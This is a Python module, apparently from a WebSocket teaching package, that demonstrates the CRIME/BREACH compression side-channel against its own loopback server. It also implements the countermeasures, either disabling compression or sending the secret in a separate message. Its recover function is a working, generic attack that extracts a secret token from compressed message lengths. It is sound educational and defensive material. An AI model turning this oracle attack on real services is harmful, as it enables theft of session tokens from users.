"""Reading a secret by the length of what is compressed: CRIME (2012) and BREACH (2013), on loopback.

::

    attacker's text        the answer, before compression                  on the wire
    token=a                token=7f3c…; you said token=a                   … bytes
    token=7                token=7f3c…; you said token=7                   one character less to spell out
                                 └──────── referred to ───┘

DEFLATE replaces repeated text by a reference. So a guess that agrees with the secret in one more character
makes the message shorter. Encryption does not hide lengths: an attacker who can make the victim send text of
his choice, and can watch its packets, learns the secret, character by character.

The cures: do not compress a secret together with another person's text; or send the two in messages of their
own, without context takeover. The victim here is a server of this package, in this process.
"""

from __future__ import annotations

from collections.abc import Callable
from types import TracebackType
from typing import Any, Final, Literal

from wsdemo.net.client import connect
from wsdemo.net.server import serve
from wsdemo.protocol.deflate import Deflate
from wsdemo.protocol.limits import Limits
from wsdemo.record.facts import TO_CLIENT
from wsdemo.trace.trace import Trace

Cure = Literal["none", "no compression", "apart"]

#: Bytes that occur nowhere else, each 9 bits long in DEFLATE's fixed code (RFC 1951 §3.2.6).
PADS: Final = bytes(range(0x90, 0x98))
#: The characters of a token.
HEXADECIMAL: Final = "0123456789abcdef"


class Victim:
    """A server that answers with its secret beside the text it got, and a client that can be made to talk.

    ``cure``: "none" compresses the answer; "no compression"; "apart" sends the secret in a message of its
    own; ValueError for another one. Use it in a ``with``.
    """

    def __init__(self, secret: str, *, cure: Cure = "none") -> None:
        if cure not in ("none", "no compression", "apart"):
            raise ValueError(f"cure {cure!r}; there are: none, no compression, apart")
        self._apart = cure == "apart"
        self._secret = secret.encode()
        self.trace = Trace()  #: the view of an eavesdropper, who looks at the lengths only
        self.requests = 0  #: the number of times that the client was made to talk
        self._seen = 0
        limits = Limits(ping_interval=None)
        deflate = Deflate(threshold=0) if cure != "no compression" else False
        self._server = serve(self._answer, compression=deflate, limits=limits)
        try:
            self._ws = connect(self._server.url, compression=deflate, limits=limits, trace=self.trace)
        except BaseException:
            self._server.close()
            raise
        self._seen = len(self.trace.chunks)

    def __enter__(self) -> Victim:
        return self

    def __exit__(
        self, kind: type[BaseException] | None, error: BaseException | None, trace: TracebackType | None
    ) -> None:
        self.close()

    def length(self, text: bytes) -> int:
        """Make the client send ``text``, and return the size of the answer on the wire in bytes."""
        self._ws.send(text)
        self._ws.recv(timeout=10.0)
        if self._apart:
            self._ws.recv(timeout=10.0)
        self.requests += 1
        new = self.trace.chunks[self._seen :]
        self._seen += len(new)
        return sum(len(chunk.data) for chunk in new if chunk.direction == TO_CLIENT)

    def close(self) -> None:
        """End the connection and the server."""
        self._ws.close()
        self._server.close()

    def _answer(self, ws: Any, text: bytes) -> None:
        secret = b"token=" + self._secret
        if self._apart:
            ws.send(secret)
            ws.send(b"you said " + text)
        else:
            ws.send(secret + b"; you said " + text)


def cost(length: Callable[[bytes], int], guess: bytes) -> int:
    """The cost of a guess in bits, up to a constant.

    A length in bytes hides differences of a few bits. Eight lengths, each with 9 more bits, show them: one
    of the eight steps over a byte's end earlier.
    """
    return sum(length(guess + PADS[:count]) for count in range(8))


def recover(
    length: Callable[[bytes], int],
    characters: int,
    *,
    known: str = "token=",
    alphabet: str = HEXADECIMAL,
    progress: Callable[[str], object] | None = None,
) -> str | None:
    """The secret that follows ``known``, found by lengths alone; None where they don't tell.

    ``length``: from text to bytes on the wire, such as `Victim.length`. ``progress``: called with the part
    that is known so far, after each character.

    >>> import zlib
    >>> def length(text):
    ...     return len(zlib.compress(b"token=c0ffee; you said " + text))
    >>> recover(length, 6)
    'c0ffee'
    """
    found = ""
    for _ in range(characters):
        costs = {letter: cost(length, f"{known}{found}{letter}".encode()) for letter in alphabet}
        cheapest = min(costs.values())
        candidates = [letter for letter in alphabet if costs[letter] == cheapest]
        if len(candidates) > 1:
            return None
        found += candidates[0]
        if progress is not None:
            progress(found)
    return found
